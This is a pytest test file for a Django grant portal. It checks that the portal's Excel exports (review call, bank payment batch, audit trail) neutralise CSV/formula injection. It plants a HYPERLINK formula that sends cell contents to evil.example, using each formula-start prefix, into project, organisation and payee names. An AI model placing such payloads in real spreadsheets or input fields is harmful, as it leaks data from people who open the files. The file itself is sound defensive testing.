"""Issue 14, finding 1: no workbook the portal hands out carries a formula, whatever an enterprise typed.

One sweep through every Excel file the portal produces — the call export (区科委 审定), the bank batch file
(区财政局) and the audit export (审计管理员) — each fetched through its page, for every prefix a
spreadsheet treats as the start of a formula or a DDE call (=, +, -, @, tab, CR). Every cell of every sheet
is read back with openpyxl: none is a formula, no text starts like one, and each planted value is there,
shown with the leading apostrophe that makes it text."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.roles import Role
from applications.models import Application
from disbursement.models import BankAccount
from tests.disbursement import test_export
from tests.disbursement.conftest import login
from tests.factories import UserFactory

pytestmark = pytest.mark.usefixtures("clock", "private_files")

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
odd_batch = test_export.odd_batch  # the fixture: three payments, two organisations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def hostile(prefix: str, where: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?{where}="&B2,"点此查看")'


def cells_of(response) -> list:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def shown_neutralised(planted: str, texts: set[str]) -> bool:
    # A leading apostrophe is Excel's "this is text"; XML reads a stored CR back as LF.
    # (The audit trail names an organisation with its USCC after the name.)
    shown = ("'" + planted, "'" + planted.replace("\r", "\n"))
    return any(text.startswith(shown) for text in texts)


def test_no_workbook_the_portal_produces_holds_a_formula_whatever_was_typed(
    client,
    odd_batch,
    call,
    org_b,
    dora,
    fay,
):
    batch, _installments = odd_batch
    auditor = UserFactory(username="audrey", roles=[Role.AUDIT_ADMIN], is_staff=True)
    for prefix in PREFIXES:
        planted = {name: hostile(prefix, name) for name in ("project", "organisation", "payee")}
        Application.objects.filter(organization=org_b).update(project_name=planted["project"])
        org_b.name = planted["organisation"]
        org_b.save()  # recorded in the audit trail under the organisation's (hostile) name
        # The bank file pays into the account frozen at approval; the hostile name is the frozen one here.
        BankAccount.objects.filter(organization=org_b).update(account_name=planted["payee"])
        workbooks = {
            "call": (
                login(client, dora).get(f"/review/calls/{call.pk}/export.xlsx"),
                ["project", "organisation"],
            ),
            "bank": (
                login(client, fay).get(reverse("disbursement:batch_export", args=[batch.pk])),
                ["payee"],
            ),
            "audit": (login(client, auditor).get(reverse("audit:export")), ["organisation"]),
        }
        for name, (response, expected) in workbooks.items():
            cells = cells_of(response)
            formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
            assert formulas == [], f"{name} {prefix!r}: formulas in {formulas}"
            texts = {cell.value for cell in cells if isinstance(cell.value, str)}
            starting_like_one = [text for text in texts if text.startswith(FORMULA_STARTS)]
            assert starting_like_one == [], f"{name} {prefix!r}: {starting_like_one}"
            for field in expected:
                assert shown_neutralised(planted[field], texts), (
                    f"{name} {prefix!r}: {field} not shown as text"
                )
